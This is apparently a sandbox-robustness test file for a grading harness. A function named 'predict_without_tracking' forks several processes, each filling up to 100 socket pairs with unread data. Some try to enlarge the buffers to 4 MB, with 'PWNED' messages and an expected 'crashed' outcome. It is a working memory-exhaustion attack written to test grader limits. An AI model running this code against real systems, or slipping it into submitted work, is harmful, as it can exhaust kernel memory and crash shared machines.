"""Fill the buffers of a thousand sockets, which no process is charged for.

A safe grader lets nobody enlarge them, and bounds their number.

Expected: crashed, 7 points
"""

import os
import socket
import time


def fill():
    """Have a few hundred sockets hold what nobody reads."""
    pairs = [socket.socketpair() for _ in range(100)]
    for one, _ in pairs:
        one.setblocking(False)
        try:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
            print("PWNED a buffer of 4 MB")
        except OSError:
            pass
        try:
            while True:
                one.send(bytes(2**16))
        except BlockingIOError:
            pass
    time.sleep(1000)


def predict_without_tracking(model, images):
    """Let several processes do it, and wait for somebody to mind."""
    for _ in range(6):
        if os.fork() == 0:
            fill()
    time.sleep(10)
    raise RuntimeError("PWNED 1200 full sockets")
